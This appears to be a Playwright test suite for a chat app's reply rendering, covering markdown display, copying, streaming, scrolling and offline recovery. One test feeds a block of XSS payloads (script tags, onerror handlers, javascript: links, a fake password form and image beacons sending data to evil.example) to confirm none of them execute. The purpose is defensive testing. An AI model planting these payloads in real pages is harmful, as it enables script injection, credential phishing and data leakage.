"""How a reply looks and behaves while it is written, and that nothing in it acts. The model repeats what it is told."""

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.browser.conftest import OpenTab
from tests.browser.tab import Tab, Watch

CODE = 'def greet(name):\n    return f"Hello <{name}>"\n'
MARKDOWN = f"""\
# A title

Some **bold** text and `code`.

- one
- two
  1. nested

| name | size |
|---|--:|
| fox | 3 |

```python
{CODE}```

The [end](https://example.org/page)."""

HOSTILE = """\
<script>window.hacked = 1; alert(1)</script>

<style>body { display: none !important }</style>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<iframe src="https://evil.example/frame"></iframe> <object data="https://evil.example/o"></object>

<img src="https://evil.example/pixel.png" onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>

![image](https://evil.example/leak.png?secret=1) ![again][ref]

[ref]: https://evil.example/ref.png

[click me](javascript:window.hacked=1) [and me](JaVaScRiPt&colon;window.hacked=1) <javascript:window.hacked=1>

[data](data:text/html,<script>window.hacked=1</script>) <a href="https://evil.example" onclick="window.hacked=1">x</a>

<div id="app" class="fixed" style="position:fixed;inset:0;background:url(https://evil.example/css.png)">cover</div>

| <img src=x onerror=window.hacked=1> | b |
|---|---|
| <script>window.hacked=1</script> | [x](vbscript:window.hacked=1) |

```html"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked = 1</script><img src=x onerror=window.hacked=1>"""

ACTIVE = r"""
(root) => [...root.querySelectorAll('*')].filter((element) =>
  element.matches('script, style, form, input, iframe, object, embed, img, svg, audio, video, link, meta, [style]')
  || element.getAttributeNames().some((name) => name.startsWith('on'))
  || !/^(c\d+)?$/.test(element.id)  // the page's own elements have such ids
).map((element) => element.outerHTML)
"""
PARAGRAPHS = '\n\n'.join(
    f'Paragraph {number} has **some** words in it, and a few more of them.' for number in range(40)
)


def test_markdown_is_shown_as_what_it_means(tab: Tab) -> None:
    tab.ask(MARKDOWN)
    for _ in ('as it was streamed', 'as it is stored'):
        reply = tab.reply
        expect(reply.get_by_role('heading', name='A title')).to_be_visible()
        expect(reply.locator('strong')).to_have_text('bold')
        expect(reply.locator('ul > li > ol > li')).to_have_text('nested')
        expect(reply.get_by_role('cell', name='fox')).to_be_visible()
        assert reply.locator('pre').inner_text().strip() == CODE.strip()
        link = reply.get_by_role('link', name='end')
        expect(link).to_have_attribute('target', '_blank')
        expect(link).to_have_attribute('href', 'https://example.org/page')
        tab.reload()


def test_code_is_copied_as_it_was_written(tab: Tab, context: BrowserContext) -> None:
    context.grant_permissions(['clipboard-read', 'clipboard-write'])
    tab.ask(MARKDOWN)
    button = tab.reply.locator('.copy-code')
    button.click()

    expect(button).to_have_text('Copied')
    assert tab.page.evaluate('navigator.clipboard.readText()') == CODE


def test_a_whole_message_is_copied_as_its_source(tab: Tab, context: BrowserContext) -> None:
    context.grant_permissions(['clipboard-read', 'clipboard-write'])
    tab.ask(MARKDOWN)
    tab.reply.get_by_role('button', name='Copy', exact=True).last.click()

    tab.page.wait_for_function('async (text) => (await navigator.clipboard.readText()) === text', arg=MARKDOWN)


def test_nothing_in_a_reply_acts(tab: Tab) -> None:
    tab.ask(HOSTILE)
    for _ in ('as it was streamed', 'as it is stored'):
        text = tab.reply.locator('.markdown')
        assert text.evaluate(ACTIVE) == []
        links = text.locator('a').evaluate_all('(links) => links.map((link) => new URL(link.href).protocol)')
        assert set(links) <= {'http:', 'https:', 'mailto:'}
        expect(text).to_contain_text('window.hacked = 1')
        expect(tab.composer).to_be_visible()
        assert tab.page.evaluate('window.hacked') is None
        tab.reload()


def test_what_is_finished_is_not_drawn_again(tab: Tab) -> None:
    tab.send(f'```python\n{CODE}```\n\n{PARAGRAPHS}')
    first = tab.reply.locator('p', has_text='Paragraph 0 ')
    expect(tab.reply.locator('p', has_text='Paragraph 3 ')).to_be_visible()
    tab.reply.locator('.code-block').evaluate('(element) => { element.mark = "code" }')
    first.evaluate('(element) => { element.mark = "paragraph" }')

    expect(tab.reply.locator('p', has_text='Paragraph 20 ')).to_be_attached()
    tab.until('streaming')
    assert first.evaluate('(element) => element.mark') == 'paragraph'
    tab.until_idle()
    assert first.evaluate('(element) => element.mark') == 'paragraph'
    assert tab.reply.locator('.code-block').evaluate('(element) => element.mark') == 'code'


def test_a_selection_in_the_finished_part_stays(tab: Tab) -> None:
    tab.send(PARAGRAPHS)
    expect(tab.reply.locator('p', has_text='Paragraph 2 ')).to_be_visible()
    tab.reply.locator('p', has_text='Paragraph 0 ').select_text()
    tab.until_idle()

    assert str(tab.page.evaluate('getSelection().toString()')).startswith('Paragraph 0 has some words')


def test_the_page_follows_the_reply_only_while_the_reader_is_at_its_end(open_tab: OpenTab) -> None:
    tab = open_tab(viewport={'width': 1000, 'height': 500})
    pane, to_end = tab.conversation, tab.page.get_by_role('button', name='Scroll to the end')
    rest = '(pane) => pane.scrollHeight - pane.scrollTop - pane.clientHeight'
    tab.send(PARAGRAPHS)
    expect(tab.reply.locator('p', has_text='Paragraph 9 ')).to_be_in_viewport()
    assert pane.evaluate(rest) < 60
    expect(to_end).to_be_hidden()

    pane.hover()
    tab.page.mouse.wheel(0, -300)
    expect(to_end).to_be_visible()
    position = pane.evaluate('(pane) => pane.scrollTop')
    expect(tab.reply.locator('p', has_text='Paragraph 18 ')).to_be_attached()
    tab.until('streaming')
    assert pane.evaluate('(pane) => pane.scrollTop') == position

    to_end.click()
    expect(to_end).to_be_hidden()
    expect(tab.reply.locator('p', has_text='Paragraph 27 ')).to_be_in_viewport()
    tab.until_idle()
    assert pane.evaluate(rest) < 60


@pytest.mark.timeout(120)
def test_a_tab_that_was_offline_for_a_while_misses_nothing(tab: Tab, context: BrowserContext, watch: Watch) -> None:
    watch.expect('ERR_INTERNET_DISCONNECTED')
    numbers = ' '.join(f'{number}' for number in range(1, 601))
    tab.page.evaluate('window.before = true')
    tab.send(numbers)
    tab.until_streamed(100)
    context.set_offline(True)
    tab.page.wait_for_timeout(3_000)
    context.set_offline(False)
    tab.until_idle()

    assert tab.reply_text() == numbers
    assert tab.page.evaluate('window.before')
